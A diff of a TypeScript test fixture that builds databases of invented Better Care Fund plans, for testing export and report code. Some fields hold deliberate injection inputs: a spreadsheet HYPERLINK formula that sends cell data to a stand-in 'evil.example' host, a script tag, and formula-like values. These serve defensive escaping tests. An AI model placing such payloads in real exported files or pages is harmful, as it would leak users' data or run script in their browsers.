@@ -1,5 +1,7 @@
 // Test databases for export and report: several realistic plans written with the store's own saveDocument.
-// Values follow the hand-checked gold records (../shared/gold) where they exist; hostile text is added on purpose.
+// Areas are real councils and CCGs/ICBs of the gazetteer (none of them a corpus area, so code lookups work); every
+// name, amount and metric value is invented, keeping the relations the tests rely on (the 2022-23 parts add up to its
+// total; one risk score is deliberately not likelihood × impact). Hostile text is added on purpose.
 import { copyFileSync, mkdirSync, mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
@@ -48,81 +50,81 @@ const PLAN_2022 = [
 const risk = (description: string, likelihood: number | null, impact: number | null, score: number | null, rating: 'high' | 'medium' | 'low' | null, page: number | null, mitigation: string | null = 'Monthly monitoring through the programme board') =>
   ({ description, likelihood, impact, score, rating, mitigation, owner: null, page, text: description });
 
-/** Derby City, revised 2014 template, PDF with pages: scored risk log, a score mismatch, a placeholder section. */
-export const derby2014: PlanRecord = PlanRecordSchema.parse({
+/** Leicester City, revised 2014 template, PDF with pages: scored risk log, a score mismatch, a placeholder section. */
+export const revisedPlan2014: PlanRecord = PlanRecordSchema.parse({
   schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
-  source: { file: '2014/derby-city-bcf.pdf', sha256: 'a'.repeat(64), format: 'pdf', pages: 31 },
+  source: { file: '2014/leicester-city-bcf.pdf', sha256: 'a'.repeat(64), format: 'pdf', pages: 31 },
   template: 'bcf-2014-revised', round: '2015-16',
-  area: { localAuthorities: ['Derby City Council'], ccgs: ['NHS Southern Derbyshire CCG'], healthAndWellbeingBoard: 'Derby City Health and Well-being Board', hwbAreaCode: 'E06000015' },
+  area: { localAuthorities: ['Leicester City Council'], ccgs: ['NHS Leicester City CCG'], healthAndWellbeingBoard: 'Leicester City Health and Well-being Board', hwbAreaCode: 'E06000016' },
   sections: sections(REVISED_2014, { 'alignment.co_commissioning': { status: 'placeholder', heading: 'c) Co-commissioning' } }),
   schemes: [
-    { ref: '1', name: 'Self help, Prevention & Community Resilience', theme: null, page: 9, text: '1 Self help, Prevention & Community Resilience' },
-    { ref: '2', name: 'Integrated Community Based Support', theme: null, page: 9, text: null },
+    { ref: '1', name: 'Prevention & Community Wellbeing', theme: null, page: 9, text: '1 Prevention & Community Wellbeing' },
+    { ref: '2', name: 'Integrated Neighbourhood Support', theme: null, page: 9, text: null },
     { ref: '3', name: 'Effective Hospital Discharge', theme: null, page: 9, text: null },
     { ref: '4', name: 'Enablers, Workforce and "Digital" Systems', theme: null, page: 10, text: null },
   ],
   budgets: [
-    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 957000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£957,000', page: 1 },
-    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 17403000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£17,403,000', page: 1 },
-    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 5264000, scheme: null, label: 'Total agreed value of pooled budget: 2014/15', text: '£5,264,000', page: 1 },
-    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 17403000, scheme: null, label: 'Total agreed value of pooled budget: 2015/16', text: '£17,403,000', page: 1 },
+    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 812000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£812,000', page: 1 },
+    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 19276000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£19,276,000', page: 1 },
+    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 4318000, scheme: null, label: 'Total agreed value of pooled budget: 2014/15', text: '£4,318,000', page: 1 },
+    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 19276000, scheme: null, label: 'Total agreed value of pooled budget: 2015/16', text: '£19,276,000', page: 1 },
     { kind: 'other', year: '2015-16', amountGbp: -129506, scheme: null, label: 'Adjustment, carried forward', text: '-£129,506', page: 22 },
   ],
   risks: [
-    risk('BCF does not achieve the planned reductions in Acute activity at the required rate due to delays in implementation', 4, 5, 20, 'high', 7),
-    risk('The existing contractual arrangements with providers not conducive to the commissioning of new models of care', 3, 4, 12, 'medium', 7),
-    risk('Social Care cuts affect delivery of targets and ability to fund preventive services', 4, 5, 20, 'high', 7),
-    risk('Insufficient recruitment of qualified and skilled preventive staff', 4, 5, 20, 'high', 8),
-    risk('Information Governance: local arrangements contingent upon national agreement on data sharing', 4, 4, 12, 'high', 8),
-    risk('Patient, service user and carer resistance to schemes requiring behavioural change', 3, 3, 9, 'medium', 8, 'Engagement events in each locality\nx\n=1+2 (a line a bare-LF bug would turn into a formula)'),
+    risk('Planned reductions in emergency admissions are not achieved at the expected pace because schemes start late', 5, 4, 20, 'high', 7),
+    risk('Current provider contracts make it hard to commission new models of care', 4, 3, 12, 'medium', 7),
+    risk('Reductions in council budgets limit the preventive services the plan depends on', 5, 4, 20, 'high', 7),
+    risk('Too few qualified community staff can be recruited for the new teams', 5, 4, 20, 'high', 8),
+    risk('Data sharing: local agreements wait on a national information governance decision', 4, 4, 12, 'high', 8),
+    risk('People using services are reluctant to take up schemes that ask them to change habits', 3, 3, 9, 'medium', 8, 'Engagement events in each locality\nx\n=1+2 (a line a bare-LF bug would turn into a formula)'),
   ],
   metrics: [
-    { metric: 'non_elective_admissions', label: 'Total number of non-elective FFCEs in general & acute', period: '2013-14', kind: 'actual', value: 28884, unit: 'count', numerator: null, denominator: null, page: 29, text: '28,884' },
-    { metric: 'non_elective_admissions', label: 'Total number of non-elective FFCEs in general & acute', period: '2015-16', kind: 'plan', value: 26921, unit: 'count', numerator: null, denominator: null, page: 29, text: '26,921' },
+    { metric: 'non_elective_admissions', label: 'Total number of non-elective FFCEs in general & acute', period: '2013-14', kind: 'actual', value: 31207, unit: 'count', numerator: null, denominator: null, page: 29, text: '31,207' },
+    { metric: 'non_elective_admissions', label: 'Total number of non-elective FFCEs in general & acute', period: '2015-16', kind: 'plan', value: 30115, unit: 'count', numerator: null, denominator: null, page: 29, text: '30,115' },
     { metric: 'residential_admissions', label: 'Permanent admissions of older people (aged 65 and over) to residential and nursing care homes, per 100,000 population', period: '2013-14', kind: 'baseline', value: 790.2, unit: 'rate_per_100k', numerator: 265, denominator: 33536, page: 30, text: '790.2' },
     { metric: 'residential_admissions', label: 'Permanent admissions of older people (aged 65 and over) to residential and nursing care homes, per 100,000 population', period: '2015-16', kind: 'plan', value: 700.5, unit: 'rate_per_100k', numerator: 240, denominator: 34261, page: 30, text: '700.5' },
     { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge', period: '2013-14', kind: 'baseline', value: 79.1, unit: 'percent', numerator: 310, denominator: 392, page: 30, text: '79.1%' },
     { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge', period: '2015-16', kind: 'plan', value: 82.0, unit: 'percent', numerator: 340, denominator: 415, page: 30, text: '82.0%' },
   ],
   flags: [
-    { code: 'RISK_SCORE_MISMATCH', severity: 'warning', message: 'score 12 but likelihood 4 × impact 4 = 16', section: 'risks.risk_log', page: 8, text: 'Information Governance: local arrangements contingent upon national agreement 4 4 12' },
+    { code: 'RISK_SCORE_MISMATCH', severity: 'warning', message: 'score 12 but likelihood 4 × impact 4 = 16', section: 'risks.risk_log', page: 8, text: 'Data sharing: local agreements wait on a national information governance decision 4 4 12' },
     { code: 'PLACEHOLDER_SECTION', severity: 'warning', message: 'answer is "To follow"', section: 'alignment.co_commissioning', page: 12, text: 'c) Please describe how your BCF plan will align with your plans for primary co-commissioning. To follow' },
     { code: 'METRIC_RATIO_MISMATCH', severity: 'info', message: '265 / 33,536 × 100,000 = 790.2', section: 'metrics.outcomes', page: 30, text: '790.2 (265/33,536)' },
   ],
   notes: [
-    { level: 'info', stage: 'extract', message: 'dropped 12 running header/footer line(s) repeated on 3+ pages', page: null, text: 'Derby City Better Care Fund Plan | page # of #' },
+    { level: 'info', stage: 'extract', message: 'dropped 12 running header/footer line(s) repeated on 3+ pages', page: null, text: 'Leicester City Better Care Fund Plan | page # of #' },
     { level: 'info', stage: 'extract', message: 'table continued from page 7 to page 8 (repeated header row dropped)', page: 8, text: null },
   ],
 });
 
-/** Staffordshire, original 2014 template, DOCX (no pages): unsigned, placeholders, a missing section, hostile text. */
-export const staffordshire2014: PlanRecord = PlanRecordSchema.parse({
+/** Nottinghamshire, original 2014 template, DOCX (no pages): unsigned, placeholders, a missing section, hostile text. */
+export const originalPlan2014: PlanRecord = PlanRecordSchema.parse({
   schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
-  source: { file: '2014/staffordshire-bcf.docx', sha256: 'b'.repeat(64), format: 'docx', pages: null },
+  source: { file: '2014/nottinghamshire-bcf.docx', sha256: 'b'.repeat(64), format: 'docx', pages: null },
   template: 'bcf-2014-original', round: '2015-16',
   area: {
-    hwbAreaCode: 'E10000028',
-    localAuthorities: ['Staffordshire County Council', 'Cannock Chase District Council', 'Tamworth Borough Council'],
-    ccgs: ['Stafford and Surrounds CCG', 'Cannock Chase CCG'],
-    healthAndWellbeingBoard: 'Staffordshire Health and Wellbeing Board',
+    hwbAreaCode: 'E10000024',
+    localAuthorities: ['Nottinghamshire County Council', 'Mansfield District Council', 'Bassetlaw District Council'],
+    ccgs: ['Mansfield and Ashfield CCG', 'Bassetlaw CCG'],
+    healthAndWellbeingBoard: 'Nottinghamshire Health and Wellbeing Board',
   },
   sections: sections(ORIGINAL_2014, { 'vision.acute_implications': { status: 'missing' } }, false),
   schemes: [
-    { ref: '1', name: 'Frailty/complex needs, long term physical and organic Mental Health', theme: null, page: null, text: null },
+    { ref: '1', name: 'Frailty and long-term conditions', theme: null, page: null, text: null },
     { ref: '2', name: 'Support to live at home', theme: null, page: null, text: null },
     { ref: '3', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', theme: 'Prevention, "early help"\nand self-care', page: null, text: null },
   ],
   budgets: [
-    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 16000000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£16,000,000', page: null },
-    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 56108000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£56,108,000', page: null },
-    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 16000000, scheme: null, label: 'Total proposed value of pooled budget: 2014/15', text: '£16,000,000', page: null },
-    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 56108000, scheme: null, label: 'Total proposed value of pooled budget: 2015/16', text: '£56,108,000', page: null },
+    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 13500000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£13,500,000', page: null },
+    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 48316000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£48,316,000', page: null },
+    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 13500000, scheme: null, label: 'Total proposed value of pooled budget: 2014/15', text: '£13,500,000', page: null },
+    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 48316000, scheme: null, label: 'Total proposed value of pooled budget: 2015/16', text: '£48,316,000', page: null },
   ],
   risks: [
-    risk('CCGs are unable to release 3% of their budgets to fund BCF plans', null, null, null, 'high', null, 'Focus activity on approaches most likely to deliver financial benefits, "as well as" population outcomes'),
-    risk('High level of savings required (c.£15m) to protect social care services are unachievable within the total funding available', null, null, null, 'high', null),
+    risk('CCGs cannot release the planned share of their budgets to the pooled fund', null, null, null, 'high', null, 'Target the schemes most likely to deliver savings, "as well as" better outcomes'),
+    risk('The savings needed (c.£11m) to protect social care services cannot be found within the pooled funding', null, null, null, 'high', null),
     risk('Delayed transfers of care increase as acute activity rises, <script>window.__xss = 1</script>', null, null, null, 'medium', null, '@SUM(1+1) weekly review'),
-    risk('-2+3 failure to recruit domiciliary care staff in rural areas', null, null, null, null, null, '+44 1785 000000 escalation line'),
+    risk('-2+3 failure to recruit domiciliary care staff in rural areas', null, null, null, null, null, '+44 1623 000000 escalation line'),
   ],
   metrics: [],
   flags: [
@@ -139,27 +141,27 @@ export const staffordshire2014: PlanRecord = PlanRecordSchema.parse({
 const scheme2022 = (name: string, amount: number, source: string) =>
   ({ kind: 'scheme_spend' as const, year: '2022-23', amountGbp: amount, scheme: name, source, label: 'Expenditure', text: `£${amount.toLocaleString('en-GB')}`, page: null });
 
-/** Derby 2022/23 planning template (text file): full income and metrics, no flags. */
-export const derby2022: PlanRecord = PlanRecordSchema.parse({
+/** Leicester 2022/23 planning template (text file): full income and metrics, no flags. */
+export const plan2022: PlanRecord = PlanRecordSchema.parse({
   schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
-  source: { file: '2022/derby-bcf-2022-23.txt', sha256: 'c'.repeat(64), format: 'txt', pages: null },
+  source: { file: '2022/leicester-bcf-2022-23.txt', sha256: 'c'.repeat(64), format: 'txt', pages: null },
   template: 'bcf-2022-23', round: '2022-23',
-  area: { localAuthorities: ['Derby City Council'], ccgs: ['NHS Derby and Derbyshire ICB'], healthAndWellbeingBoard: 'Derby Health and Wellbeing Board', hwbAreaCode: 'E06000015' },
+  area: { localAuthorities: ['Leicester City Council'], ccgs: ['NHS Leicester, Leicestershire and Rutland ICB'], healthAndWellbeingBoard: 'Leicester Health and Wellbeing Board', hwbAreaCode: 'E06000016' },
   sections: sections(PLAN_2022, {}, false),
   schemes: [
-    { ref: null, name: 'Integrated Community Equipment', theme: null, page: null, text: null },
-    { ref: null, name: 'Social Care assessments and cost of care', theme: null, page: null, text: null },
+    { ref: null, name: 'Community Equipment Service', theme: null, page: null, text: null },
+    { ref: null, name: 'Social care assessment and review', theme: null, page: null, text: null },
     { ref: null, name: 'Carers Support', theme: null, page: null, text: null },
   ],
   budgets: [
-    { kind: 'dfg', year: '2022-23', amountGbp: 2323304, scheme: null, label: 'DFG', text: '£2,323,304', page: null },
-    { kind: 'ibcf', year: '2022-23', amountGbp: 12045014, scheme: null, label: 'iBCF', text: '£12,045,014', page: null },
-    { kind: 'la_additional_contribution', year: '2022-23', amountGbp: 269682, scheme: null, label: 'Additional LA Contribution', text: '£269,682', page: null },
-    { kind: 'nhs_minimum_contribution', year: '2022-23', amountGbp: 20620231, scheme: null, label: 'Minimum NHS Contribution', text: '£20,620,231', page: null },
-    { kind: 'total_pooled_budget', year: '2022-23', amountGbp: 35258231, scheme: null, label: 'Total BCF Pooled Budget', text: '£35,258,231', page: null },
-    scheme2022('Integrated Community Equipment', 1997385, 'Minimum NHS Contribution'),
-    scheme2022('Social Care assessments and cost of care', 6259171, 'iBCF'),
-    scheme2022('Carers Support', 779444, 'Minimum NHS Contribution'),
+    { kind: 'dfg', year: '2022-23', amountGbp: 1874512, scheme: null, label: 'DFG', text: '£1,874,512', page: null },
+    { kind: 'ibcf', year: '2022-23', amountGbp: 11630447, scheme: null, label: 'iBCF', text: '£11,630,447', page: null },
+    { kind: 'la_additional_contribution', year: '2022-23', amountGbp: 315800, scheme: null, label: 'Additional LA Contribution', text: '£315,800', page: null },
+    { kind: 'nhs_minimum_contribution', year: '2022-23', amountGbp: 17452219, scheme: null, label: 'Minimum NHS Contribution', text: '£17,452,219', page: null },
+    { kind: 'total_pooled_budget', year: '2022-23', amountGbp: 31272978, scheme: null, label: 'Total BCF Pooled Budget', text: '£31,272,978', page: null },
+    scheme2022('Community Equipment Service', 1486230, 'Minimum NHS Contribution'),
+    scheme2022('Social care assessment and review', 5102846, 'iBCF'),
+    scheme2022('Carers Support', 642318, 'Minimum NHS Contribution'),
   ],
   risks: [
     risk('Workforce capacity in domiciliary care limits hospital discharge', 4, 4, 16, 'high', null),
@@ -167,11 +169,11 @@ export const derby2022: PlanRecord = PlanRecordSchema.parse({
     risk('Demand for hospital discharge support exceeds capacity over winter', 4, 3, 12, 'medium', null),
   ],
   metrics: [
-    { metric: 'residential_admissions', label: 'Long-term support needs of older people (age 65 and over) met by admission to residential and nursing care homes, per 100,000 population', period: '2020-21', kind: 'actual', value: 620.9, unit: 'rate_per_100k', numerator: 263, denominator: 42361, page: null, text: '620.9' },
-    { metric: 'residential_admissions', label: 'Long-term support needs of older people (age 65 and over) met by admission to residential and nursing care homes, per 100,000 population', period: '2022-23', kind: 'plan', value: 599.0, unit: 'rate_per_100k', numerator: 262, denominator: 43741, page: null, text: '599.0' },
-    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge from hospital into reablement / rehabilitation services', period: '2020-21', kind: 'actual', value: 77.4, unit: 'percent', numerator: 192, denominator: 248, page: null, text: '77.4%' },
-    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge from hospital into reablement / rehabilitation services', period: '2022-23', kind: 'plan', value: 81.5, unit: 'percent', numerator: 831, denominator: 1020, page: null, text: '81.5%' },
-    { metric: 'discharge_usual_residence', label: 'Percentage of people, resident in the HWB, who are discharged from acute hospital to their normal place of residence', period: '2022-23 Q1', kind: 'plan', value: 97.0, unit: 'percent', numerator: 9513, denominator: 9807, page: null, text: '97.0%' },
+    { metric: 'residential_admissions', label: 'Long-term support needs of older people (age 65 and over) met by admission to residential and nursing care homes, per 100,000 population', period: '2020-21', kind: 'actual', value: 596.4, unit: 'rate_per_100k', numerator: 188, denominator: 31524, page: null, text: '596.4' },
+    { metric: 'residential_admissions', label: 'Long-term support needs of older people (age 65 and over) met by admission to residential and nursing care homes, per 100,000 population', period: '2022-23', kind: 'plan', value: 566.0, unit: 'rate_per_100k', numerator: 181, denominator: 31980, page: null, text: '566.0' },
+    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge from hospital into reablement / rehabilitation services', period: '2020-21', kind: 'actual', value: 77.1, unit: 'percent', numerator: 155, denominator: 201, page: null, text: '77.1%' },
+    { metric: 'reablement', label: 'Proportion of older people (65 and over) who were still at home 91 days after discharge from hospital into reablement / rehabilitation services', period: '2022-23', kind: 'plan', value: 81.7, unit: 'percent', numerator: 688, denominator: 842, page: null, text: '81.7%' },
+    { metric: 'discharge_usual_residence', label: 'Percentage of people, resident in the HWB, who are discharged from acute hospital to their normal place of residence', period: '2022-23 Q1', kind: 'plan', value: 97.0, unit: 'percent', numerator: 7342, denominator: 7569, page: null, text: '97.0%' },
   ],
   flags: [],
 });
@@ -188,9 +190,9 @@ export const failedPlan: PlanRecord = PlanRecordSchema.parse({
 
 /** A plan that was in an earlier run and has since disappeared from the input. */
 export const removedPlan: PlanRecord = PlanRecordSchema.parse({
-  ...derby2014,
-  source: { file: '2014/old-draft/derby-city-draft.pdf', sha256: 'e'.repeat(64), format: 'pdf', pages: 28 },
-  area: { ...derby2014.area, healthAndWellbeingBoard: 'Derby City Health and Well-being Board (draft)' },
+  ...revisedPlan2014,
+  source: { file: '2014/old-draft/leicester-city-draft.pdf', sha256: 'e'.repeat(64), format: 'pdf', pages: 28 },
+  area: { ...revisedPlan2014.area, healthAndWellbeingBoard: 'Leicester City Health and Well-being Board (draft)' },
 });
 
 export interface FixtureDb {
@@ -198,7 +200,7 @@ export interface FixtureDb {
   dbFile: string;
   /** The input folder of the recorded run; holds a real PDF at the paged plan's path, for the report's links. */
   inputDir: string;
-  ids: { derby2014: number; staffordshire2014: number; derby2022: number; failed: number; removed: number };
+  ids: { revisedPlan2014: number; originalPlan2014: number; plan2022: number; failed: number; removed: number };
 }
 
 /**
@@ -211,17 +213,17 @@ export async function buildFixtureDb(): Promise<FixtureDb> {
   const db = await openStore(dbFile);
   try {
     const ids = {
-      derby2014: await saveDocument(db, derby2014, ok),
-      staffordshire2014: await saveDocument(db, staffordshire2014, { ...ok, size: 56_733 }),
-      derby2022: await saveDocument(db, derby2022, { ...ok, size: 80_142 }),
+      revisedPlan2014: await saveDocument(db, revisedPlan2014, ok),
+      originalPlan2014: await saveDocument(db, originalPlan2014, { ...ok, size: 56_733 }),
+      plan2022: await saveDocument(db, plan2022, { ...ok, size: 80_142 }),
       failed: await saveDocument(db, failedPlan, { ...ok, status: 'failed', failureReason: 'encrypted' }),
       removed: await saveDocument(db, removedPlan, ok),
     };
     // What the run does when a file has gone from the input: keep its rows, mark it removed.
     await db.run("UPDATE documents SET status = 'removed', removed_at = '2026-11-20T02:00:00.000Z' WHERE id = ?", [ids.removed]);
     const inputDir = join(dir, 'input');
-    mkdirSync(dirname(join(inputDir, derby2014.source.file)), { recursive: true });
-    copyFileSync(new URL('../fixtures/sample/northmoor-2014-revised.pdf', import.meta.url), join(inputDir, derby2014.source.file));
+    mkdirSync(dirname(join(inputDir, revisedPlan2014.source.file)), { recursive: true });
+    copyFileSync(new URL('../fixtures/sample/northmoor-2014-revised.pdf', import.meta.url), join(inputDir, revisedPlan2014.source.file));
     const run = await startRun(db, inputDir, 'test-1', new Date('2026-11-23T02:00:00.000Z'));
     await finishRun(db, run, { processed: 0, skipped: 4, failed: 0, removed: 0, relinked: 0 }, [], new Date('2026-11-23T02:00:05.000Z'));
     await groupPlans(db);
